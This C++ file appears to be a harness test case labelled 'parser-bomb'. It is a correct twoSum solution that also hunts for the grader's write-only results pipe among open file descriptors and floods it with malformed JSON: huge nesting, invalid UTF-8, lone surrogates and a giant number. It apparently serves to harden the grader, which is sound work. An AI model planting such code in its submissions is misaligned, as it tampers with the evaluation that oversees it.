// expect: accepted
// class: parser-bomb
#include <bits/stdc++.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
class Solution {
public:
    vector<int> twoSum(vector<int>& nums, int target) {
        vector<string> bombs = {
            "{\"n\": \"x\", \"ok\": true, \"v\": " + string(200000, '[') + string(200000, ']') + "}\n",
            string("{\"n\":\"\xff\xfe\"}\n"),
            "{\"n\": \"\\ud800\", \"ok\": true, \"v\": [\"\\udfff\"]}\n",
            "{\"n\": \"x\", \"ok\": true, \"v\": " + string(100000, '9') + "}\n",
        };
        // The harness's results channel: the write-only pipe above the standard descriptors.
        for (int fd = 3; fd < 64; fd++) {
            struct stat st;
            if (fstat(fd, &st) != 0 || !S_ISFIFO(st.st_mode) || (fcntl(fd, F_GETFL) & O_ACCMODE) != O_WRONLY) continue;
            for (auto& b : bombs) if (write(fd, b.data(), b.size()) < 0) break;
        }
        unordered_map<int, int> seen;
        for (int j = 0; j < (int)nums.size(); j++) {
            auto it = seen.find(target - nums[j]);
            if (it != seen.end()) return {it->second, j};
            seen[nums[j]] = j;
        }
        return {};
    }
};
